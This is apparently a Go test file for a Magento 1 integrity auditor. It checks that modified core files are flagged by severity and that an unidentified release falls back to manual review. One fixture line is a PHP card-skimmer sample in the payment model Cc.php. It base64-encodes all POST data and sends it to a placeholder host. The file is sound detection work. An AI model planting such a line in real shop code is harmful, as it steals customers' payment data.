package m1audit

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mageflow/mageflow/internal/m1/m1core"
)

func TestCoreFindingsShowStealerLines(t *testing.T) {
	res := &m1core.Result{Status: m1core.StatusModified, Version: "1.9.4.5",
		Modified: []m1core.Change{
			{Path: "app/code/core/Mage/Payment/Model/Method/Cc.php", Code: true, Lines: true, ForeignLines: 1,
				Foreign: []m1core.Line{{N: 412, Text: "@file_get_contents('https://x.example/?c='.base64_encode(serialize($_POST)));"}}},
			{Path: "skin/frontend/base/default/css/styles.css", Lines: false, Size: 10},
		},
		Added:   []m1core.Change{{Path: "errors/x.php", Code: true, Lines: true}},
		Missing: []string{"js/varien/js.js"}}
	fs, high := coreFindings(res)
	if !high || len(fs) != 4 {
		t.Fatalf("high %v, %d findings: %+v", high, len(fs), fs)
	}
	if f := fs[0]; f.Severity != SeverityHigh || f.Line != 412 || !strings.Contains(f.Evidence, "base64_encode(serialize($_POST))") {
		t.Errorf("stealer finding %+v", f)
	}
	if fs[1].Severity != SeverityMedium || fs[2].Severity != SeverityHigh || fs[3].Severity != SeverityLow {
		t.Errorf("severities %s %s %s", fs[1].Severity, fs[2].Severity, fs[3].Severity)
	}
}

func TestCoreIntegrityUnknownReleaseFallsBack(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "app", "Mage.php"), "<?php // not a release\n")
	writeFile(t, filepath.Join(root, "index.php"), "<?php\n")
	r := coreIntegrityCheck(context.Background(), &Target{WebRoot: root})
	if r.Status != StatusNeedsPerson || !strings.Contains(r.Evidence.Detail, "not identified") || r.Fix != coreFixUnknown {
		t.Fatalf("unknown release: %+v", r)
	}
}
